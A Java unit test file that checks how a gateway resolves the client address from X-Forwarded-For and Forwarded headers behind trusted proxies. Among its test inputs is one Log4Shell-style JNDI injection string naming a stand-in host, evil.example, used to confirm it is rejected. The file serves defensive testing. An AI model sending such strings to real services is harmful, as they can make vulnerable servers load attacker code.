package io.avatargateway.rest;

import static org.assertj.core.api.Assertions.assertThat;

import io.avatargateway.config.AddressRanges;
import io.avatargateway.config.SettingsReader;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ClientAddressTest {

    private static final AddressRanges PROXIES = proxies("10.0.0.0/8,2001:db8:f::/48");

    private static AddressRanges proxies(String ranges) {
        return SettingsReader.read(name -> Optional.ofNullable(
                        Map.of("REST_TRUSTED_PROXIES", ranges).get(name)))
                .rest()
                .trustedProxies();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                // One proxy, and what it heard.
                "X-Forwarded-For: 192.0.2.1                     | 192.0.2.1",
                "X-Forwarded-For: 192.0.2.1:4711                | 192.0.2.1",
                "X-Forwarded-For: [2001:db8::1]:4711            | 2001:db8:0:0:0:0:0:1",
                "X-Forwarded-For: 2001:DB8::1                   | 2001:db8:0:0:0:0:0:1",
                "X-Forwarded-For: ::ffff:192.0.2.1              | 192.0.2.1",
                "X-Forwarded-For: fe80::1%eth0                  | fe80:0:0:0:0:0:0:1",
                // The client has written something before.
                "X-Forwarded-For: 198.51.100.9, 192.0.2.1       | 192.0.2.1",
                "X-Forwarded-For: 10.0.0.9, 192.0.2.1           | 192.0.2.1",
                "X-Forwarded-For: <b>, 192.0.2.1,               | 192.0.2.1",
                // Proxies behind proxies.
                "X-Forwarded-For: 198.51.100.9, 192.0.2.1, 10.9.9.9, 2001:db8:f::2 | 192.0.2.1",
                "X-Forwarded-For: 10.0.0.9, 10.0.0.8            | 10.0.0.9",
                // The last proxy whose word counts has heard somebody without an address.
                "X-Forwarded-For: 198.51.100.9, unknown         | 10.0.0.5",
                "X-Forwarded-For: 198.51.100.9, _hidden, 10.0.0.8 | 10.0.0.8",
                "X-Forwarded-For: 198.51.100.9, 999.1.1.1       | 10.0.0.5",
                "X-Forwarded-For: 010.0.0.1                     | 10.0.0.5",
                "X-Forwarded-For: evil.example                  | 10.0.0.5",
                "X-Forwarded-For: ${jndi:ldap://evil.example}   | 10.0.0.5",
                "X-Forwarded-For: 192.0.2.1\t{}                 | 10.0.0.5",
                "X-Forwarded-For: [::1                          | 10.0.0.5",
                "X-Forwarded-For: ,                             | 10.0.0.5",
                "Other: 192.0.2.1                               | 10.0.0.5",
                // The standard's header.
                "Forwarded: for=192.0.2.1                       | 192.0.2.1",
                "Forwarded: For=\"[2001:db8::1]:4711\";proto=https | 2001:db8:0:0:0:0:0:1",
                "Forwarded: proto=https; for=\"192.0.2.1:_x\"   | 192.0.2.1",
                "Forwarded: for=198.51.100.9, for=192.0.2.1;by=10.0.0.5, for=10.0.0.8 | 192.0.2.1",
                "Forwarded: for=\", for=192.0.2.1               | 192.0.2.1",
                "Forwarded: for=\"x, for=\"192.0.2.1\"          | 192.0.2.1",
                "Forwarded: for=198.51.100.9, proto=https       | 10.0.0.5",
                "Forwarded: for=198.51.100.9, for=_hidden       | 10.0.0.5",
                "Forwarded: for=unknown                         | 10.0.0.5",
                "Forwarded: xfor=198.51.100.9                   | 10.0.0.5",
            })
    void shouldBeTheNearestThatIsNoTrustedProxy(String header, String address) {
        String[] parts = header.split(": ", 2);

        assertThat(of(SentRequest.with(parts).from("10.0.0.5"))).isEqualTo(address);
    }

    @ParameterizedTest
    @CsvSource({"192.0.2.77", "127.0.0.1"})
    void shouldBelieveNobodyElse(String peer) {
        assertThat(of(SentRequest.with("X-Forwarded-For", "198.51.100.9", "Forwarded", "for=198.51.100.9")
                        .from(peer)))
                .isEqualTo(peer);
    }

    @Test
    void shouldReadAllLinesInTheirOrder() {
        assertThat(of(SentRequest.with("X-Forwarded-For", "198.51.100.9", "x-forwarded-for", "192.0.2.1, 10.0.0.8")
                        .from("10.0.0.5")))
                .isEqualTo("192.0.2.1");
    }

    @Test
    void shouldNotBelieveAHeaderOfTheClientsThatItsProxyPassedOn() {
        assertThat(of(SentRequest.with("Forwarded", "for=198.51.100.9", "X-Forwarded-For", "192.0.2.1")
                        .from("10.0.0.5")))
                .isEqualTo("192.0.2.1");
    }

    @Test
    void shouldBelieveNobodyWhereNoProxyIsTrusted() {
        assertThat(ClientAddress.read(
                        SentRequest.with("X-Forwarded-For", "198.51.100.9").asSeen(), proxies("none")))
                .isEqualTo("127.0.0.1");
    }

    @Test
    void shouldReadListsOfAnySize() {
        String long1 = "for=\"" + ";for=".repeat(20_000);

        assertThat(of(SentRequest.with("Forwarded", long1).from("10.0.0.5"))).isEqualTo("10.0.0.5");
        assertThat(of(SentRequest.with("X-Forwarded-For", "1,".repeat(20_000) + "[".repeat(20_000))
                        .from("10.0.0.5")))
                .isEqualTo("10.0.0.5");
    }

    private static String of(SentRequest request) {
        return ClientAddress.read(request.asSeen(), PROXIES);
    }
}
